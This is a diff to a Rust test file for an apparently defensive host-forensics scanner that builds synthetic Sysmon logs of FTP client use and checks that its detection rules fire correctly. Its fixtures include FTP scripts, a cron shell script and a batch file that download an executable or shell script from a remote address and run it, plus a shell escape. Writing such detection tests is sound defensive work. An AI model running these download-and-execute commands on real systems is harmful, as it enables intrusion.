@@ -22,7 +22,7 @@ fn matter(
 }
 
 /// A record of Sysmon as a line of an export.
-fn sysmon(event_id: u32, time: &str, data: &[(&str, &str)]) -> String {
+pub(crate) fn sysmon(event_id: u32, time: &str, data: &[(&str, &str)]) -> String {
     let mut fields = serde_json::Map::new();
     fields.insert("UtcTime".to_owned(), time.into());
     fields.extend(data.iter().map(|(name, value)| ((*name).to_owned(), (*value).into())));
@@ -30,7 +30,7 @@ fn sysmon(event_id: u32, time: &str, data: &[(&str, &str)]) -> String {
     record(provider, channel, event_id, time, &fields.into())
 }
 
-fn record(provider: &str, channel: &str, event_id: u32, time: &str, data: &serde_json::Value) -> String {
+pub(crate) fn record(provider: &str, channel: &str, event_id: u32, time: &str, data: &serde_json::Value) -> String {
     let time = format!("{}Z", time.replace(' ', "T"));
     let system = serde_json::json!({
         "Provider": { "#attributes": { "Name": provider } }, "EventID": event_id, "Channel": channel, "Computer": "PC1",
@@ -94,6 +94,48 @@ pub(crate) fn recorded() -> Vec<(&'static str, Vec<u8>)> {
         ("Users/Public/a.exe", b"MZ".to_vec()),
         ("Windows/Temp/sysmon.jsonl", log.concat().into_bytes()),
     ]
+}
+
+const FTP: &str = "C:\\Windows\\System32\\ftp.exe";
+
+/// A start of a client under another name.
+fn renamed(line: &str) -> Vec<u8> {
+    let data = [("Image", "C:\\Users\\Public\\svc.exe"), ("OriginalFileName", "ftp.exe"), ("CommandLine", line)];
+    sysmon(1, "2024-05-12 10:00:00.000", &data).into_bytes()
+}
+
+/// A host whose log tells what somebody did with a client by hand: where it went, what it made, what it started.
+fn typed(client: &str, line: &str, files: &[&str], child: &str) -> Vec<u8> {
+    let guid = |number: u32| format!("{{365ABB72-55F1-5CD8-0000-{number:012X}}}");
+    let (own, below) = (guid(2), guid(3));
+    let by = |more: &[(&'static str, &str)]| -> Vec<(&'static str, String)> {
+        let process = [("ProcessGuid", own.as_str()), ("ProcessId", "10"), ("Image", client), ("User", "PC1\\kim")];
+        process.iter().chain(more).map(|(name, value)| (*name, (*value).to_owned())).collect()
+    };
+    let event = |number: u32, second: u32, data: Vec<(&'static str, String)>| {
+        let data: Vec<(&str, &str)> = data.iter().map(|(name, value)| (*name, value.as_str())).collect();
+        sysmon(number, &format!("2024-05-12 10:00:{second:02}.000"), &data)
+    };
+    let above = ("ParentImage", "C:\\Windows\\explorer.exe");
+    let mut log = event(1, 0, by(&[("CommandLine", line), ("CurrentDirectory", "C:\\Users\\kim\\"), above]));
+    let ends =
+        [("SourceIp", "10.0.0.5"), ("SourcePort", "50000"), ("DestinationIp", "45.33.1.2"), ("DestinationPort", "21")];
+    log += &event(3, 2, by(&[&[("Initiated", "true"), ("Protocol", "tcp")], ends.as_slice()].concat()));
+    for file in files {
+        log += &event(11, 5, by(&[("TargetFilename", file)]));
+    }
+    if !child.is_empty() {
+        let data = [
+            ("ProcessGuid", below.as_str()),
+            ("ProcessId", "11"),
+            ("Image", child),
+            ("ParentProcessGuid", own.as_str()),
+            ("ParentProcessId", "10"),
+            ("ParentImage", client),
+        ];
+        log += &event(1, 9, data.iter().map(|(name, value)| (*name, (*value).to_owned())).collect());
+    }
+    log.into_bytes()
 }
 
 /// A program with an export table that gives it a name.
@@ -372,8 +414,61 @@ fn matters() -> Vec<Matter> {
                 "log.cleared",
                 "transfer.download",
             ],
-            silent: &["launch.script-gone"],
+            silent: &["launch.script-gone", "run.download", "run.child-process", "run.public-address"],
         },
+        matter(
+            "what somebody did with a client by hand",
+            &[(
+                "log.jsonl",
+                &typed(FTP, "ftp 45.33.1.2", &["C:\\Users\\kim\\e.exe"], "C:\\Windows\\System32\\cmd.exe"),
+            )],
+            &["run.download", "run.child-process", "run.public-address"],
+            &["launch.script-gone", "payload.executed", "session.raw-public-address"],
+        ),
+        matter(
+            "a client that goes to a name and whose console is another process",
+            &[("log.jsonl", &typed(FTP, "ftp ftp.example", &[], "C:\\Windows\\System32\\conhost.exe"))],
+            &[],
+            &["run.download", "run.child-process", "run.public-address"],
+        ),
+        matter(
+            "what a client keeps for itself",
+            &[(
+                "log.jsonl",
+                &typed(
+                    "C:\\Program Files\\FileZilla FTP Client\\filezilla.exe",
+                    "filezilla.exe",
+                    &["C:\\Users\\kim\\AppData\\Roaming\\FileZilla\\queue.sqlite3"],
+                    "C:\\Program Files\\FileZilla FTP Client\\fzsftp.exe",
+                ),
+            )],
+            &["run.public-address"],
+            &["run.download", "run.child-process"],
+        ),
+        matter(
+            "what a script at hand says of the same run",
+            &[
+                ("Windows/System32/x.ini", b""),
+                ("Users/kim/s.txt", b"open 45.33.1.2\nuser bob pw\nbinary\nget e.exe\n!whoami\nbye\n"),
+                (
+                    "Windows/Temp/log.jsonl",
+                    &typed(
+                        FTP,
+                        "ftp -n -s:C:\\Users\\kim\\s.txt",
+                        &["C:\\Users\\kim\\e.exe"],
+                        "C:\\Windows\\System32\\cmd.exe",
+                    ),
+                ),
+            ],
+            &["transfer.download", "script.shell-escape", "session.raw-public-address"],
+            &["run.download", "run.child-process", "run.public-address", "launch.script-gone"],
+        ),
+        matter(
+            "a client under another name whose script is gone",
+            &[("log.jsonl", &renamed("svc.exe -s:C:\\Users\\Public\\q.txt"))],
+            &["launch.script-gone", "run.renamed-client"],
+            &["run.download"],
+        ),
         Matter {
             about: "the same host without its log",
             files: recorded().into_iter().filter(|(path, _)| !path.contains("sysmon")).collect(),
@@ -407,6 +502,27 @@ fn rules_speak_when_they_should_and_only_then() {
             assert!(!spoken.contains(rule), "{}: {rule} speaks; {:#?}", matter.about, case.findings);
         }
         assert_eq!(case.scan.counts.findings, case.findings.len() as u64);
+    }
+}
+
+#[test]
+fn techniques_are_those_of_what_runs_the_commands() {
+    let fetch = "open 192.0.2.1\\nuser bob pw\\nbinary\\nget x.sh\\nbye\\n";
+    let shell = format!("#!/bin/sh\nprintf '{fetch}' | ftp -n\nsh x.sh\n");
+    let batch = b"@echo open 192.0.2.1> s.txt\r\n@echo user bob pw>> s.txt\r\n@echo get x.exe>> s.txt\r\n@ftp -n -s:s.txt\r\nx.exe\r\n";
+    let cases: [(&str, &[u8], &str, &[&str]); 3] = [
+        ("etc/cron.daily/x", shell.as_bytes(), "script.executes-download", &["T1105", "T1059.004"]),
+        ("x.bat", batch, "script.executes-download", &["T1105", "T1059.003"]),
+        ("Windows/Temp/s.txt", b"open 192.0.2.1\nuser bob pw\nbinary\nget x.exe\nbye\n", "script.writable-folder", &[]),
+    ];
+    for (path, content, rule, techniques) in cases {
+        let case = case([(path, content)]);
+        let found: Vec<_> = case.findings.iter().filter(|finding| finding.rule == rule).collect();
+        assert!(!found.is_empty(), "{path}: {:?}", case.findings);
+        for finding in found {
+            let shown: Vec<&str> = finding.attack.iter().map(|attack| attack.technique).collect();
+            assert_eq!(shown, techniques, "{path}");
+        }
     }
 }
 
